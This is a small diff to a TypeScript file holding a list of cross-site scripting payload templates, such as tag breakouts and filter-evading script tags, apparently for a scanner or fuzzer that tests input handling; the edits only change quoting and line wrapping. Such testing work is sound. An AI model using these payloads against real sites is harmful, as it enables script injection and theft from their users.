@@ -41,7 +41,7 @@ const raw: [PayloadKind, string][] = [
   ['script', '<script/src=data:text/javascript,Ⓧ></script>'],
   ['script', '<script type="module">Ⓧ</script>'],
   ['script', '"><script>Ⓧ</script>'],
-  ["script", "'><script>Ⓧ</script>"],
+  ['script', "'><script>Ⓧ</script>"],
   ['script', '</script><script>Ⓧ</script>'],
   ['script', '</script ><script>Ⓧ</script\t>'],
   ['script', '<scr<script>ipt>Ⓧ</scr</script>ipt>'],
@@ -210,4 +210,6 @@ export const payloads: readonly Payload[] = raw.map(([kind, template], n) => {
 });
 
 /** The payloads meant for URL fields (every payload is also tried there; these are the URL-shaped ones). */
-export const urlPayloads: readonly Payload[] = payloads.filter((p) => p.kind === 'url' || p.kind === 'unicode');
+export const urlPayloads: readonly Payload[] = payloads.filter(
+  (p) => p.kind === 'url' || p.kind === 'unicode',
+);
